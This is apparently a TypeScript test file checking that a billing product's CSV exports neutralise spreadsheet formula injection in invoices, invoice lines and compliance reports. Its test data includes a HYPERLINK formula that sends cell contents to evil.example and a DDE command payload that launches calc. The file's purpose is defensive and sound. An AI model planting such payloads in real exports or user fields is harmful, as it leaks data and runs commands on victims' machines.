import { afterAll, beforeAll, describe, expect, it } from "bun:test";
import { eq } from "drizzle-orm";
import { createAccount } from "../../src/accounts/service.ts";
import { cliActor } from "../../src/audit/service.ts";
import { invoicesCsv } from "../../src/billing/csv.ts";
import type { InvoiceView } from "../../src/billing/model.ts";
import { invoiceLinesCsv } from "../../src/billing/portal.tsx";
import { accounts } from "../../src/db/schema.ts";
import { csvText } from "../../src/ops/csv.ts";
import { backends } from "../support/backends.ts";
import { Browser } from "../support/browser.ts";
import { newKey } from "../support/fixtures.ts";
import { startHarness, type Harness } from "../support/harness.ts";

/** OWASP's CSV Injection rule: a cell beginning with one of these is run as a formula by spreadsheets. */
const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];

/** The probe's payloads, then one per dangerous first character. */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "=1+1", "@A1"];

/** RFC 4180 records (quoted fields, doubled quotes, CRLF or LF): what a spreadsheet reads. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") row.push(cell), (cell = "");
    else if (ch === "\n" || (ch === "\r" && text[i + 1] === "\n")) {
      if (ch === "\r") i++;
      row.push(cell);
      rows.push(row);
      (row = []), (cell = "");
    } else cell += ch;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** The cells of a CSV a spreadsheet would evaluate. */
const formulaCells = (csv: string) => parseCsv(csv).flat().filter((c) => FORMULA_STARTS.some((s) => c.startsWith(s)));

describe("the CSV writer", () => {
  it("starts every text cell beginning with = + - @ tab or CR with a single quote", () => {
    for (const start of FORMULA_STARTS) {
      const value = `${start}cmd|' /C calc'!A0`;
      const [, row] = parseCsv(csvText(["cell"], [[value]]));
      expect([JSON.stringify(start), row]).toEqual([JSON.stringify(start), [`'${value}`]]);
    }
    for (const value of PAYLOADS) expect(parseCsv(csvText(["cell"], [[value]]))[1]).toEqual([`'${value}`]);
    // The full-width forms Apple Numbers normalises to = + - @.
    for (const value of ["＝1+1", "＋1", "－1", "＠A1"]) expect(parseCsv(csvText(["cell"], [[value]]))[1]).toEqual([`'${value}`]);
  });

  it("leaves numbers (negative ones too), other text and empty cells as they are, quoted as RFC 4180 says", () => {
    const csv = csvText(["a", "b", "c", "d", "e"], [[-3, "plain", 'say "hi", twice', null, "line\nbreak"], [0, "a=b", "", undefined, 1.5]]);
    expect(csv).toBe('a,b,c,d,e\n-3,plain,"say ""hi"", twice",,"line\nbreak"\n0,a=b,,,1.5\n');
  });

  it("writes the header row when there are no rows", () => {
    expect(csvText(["day", "calls"], [])).toBe("day,calls\n");
  });
});

describe("every CSV the product writes", () => {
  const invoice = (description: string, email?: string): InvoiceView & { email?: string } => ({
    id: "inv_1",
    accountId: "acct_1",
    number: "KP-202601-000001",
    month: "2026-01",
    status: "open",
    currency: "USD",
    calls: 10,
    includedCalls: 5,
    totalCents: -100,
    lines: [{ kind: "base", planId: "starter", description, quantity: 1, amountCents: -100 }],
    finalizedAt: "2026-02-01T00:00:00.000Z",
    paidAt: null,
    voidedAt: null,
    email,
  });

  it("defuses an email beginning with + or - in the month's invoices CSV, and keeps a negative amount a number", () => {
    for (const email of ["+1+1@example.com", "-2+3@example.com"]) {
      const csv = invoicesCsv([invoice("Starter", email)]);
      expect(formulaCells(csv).filter((c) => c !== "-100")).toEqual([]);
      expect(parseCsv(csv)[1]).toContain(`'${email}`);
      expect(parseCsv(csv)[1]).toContain("-100");
    }
  });

  it("defuses an invoice line's description in the invoice's CSV", () => {
    for (const description of PAYLOADS) {
      const csv = invoiceLinesCsv(invoice(description));
      expect(formulaCells(csv).filter((c) => c !== "-100")).toEqual([]);
      expect(parseCsv(csv)[1]).toContain(`'${description}`);
    }
  });

  describe("the compliance CSVs (the account's and the operator's)", () => {
    // What is written comes from the database, whatever it is: the embedded backend is enough.
    let h: Harness;
    let operator: Browser;
    let tenant: Browser;
    beforeAll(async () => {
      h = await startHarness(backends[0]!);
      // The first account of a database is an operator.
      const op = await createAccount(h.deps, { email: "operator@example.com", password: "operator passphrase 1" }, cliActor);
      operator = new Browser(h);
      expect((await operator.post("/login", { email: op.email, password: "operator passphrase 1" })).status).toBe(303);
      tenant = new Browser(h);
      await tenant.signUp("-2+3@example.com");
      const [row] = await h.deps.db.select({ id: accounts.id }).from(accounts).where(eq(accounts.email, "-2+3@example.com"));
      for (const name of PAYLOADS) await newKey(h, row!.id, { name });
    });
    afterAll(() => h.close());

    for (const [who, path] of [
      ["the account", "/portal/compliance.csv"],
      ["the operator", "/admin/compliance.csv"],
    ] as const) {
      it(`defuses another tenant's key names and email in ${who}'s ${path}`, async () => {
        const res = await (who === "the operator" ? operator : tenant).get(path);
        expect(res.status).toBe(200);
        const csv = await res.text();
        const rows = parseCsv(csv);
        expect(rows[0]).toEqual(["key_id", "name", "account", "environment", "created_at", "age_days", "max_age_days", "over_policy", "rotation_state", "rotation_due_at"]);
        expect(formulaCells(csv)).toEqual([]);
        const tenantRows = rows.filter((r) => r[2] === "'-2+3@example.com");
        expect(tenantRows.map((r) => r[1]).sort()).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
      });
    }
  });
});
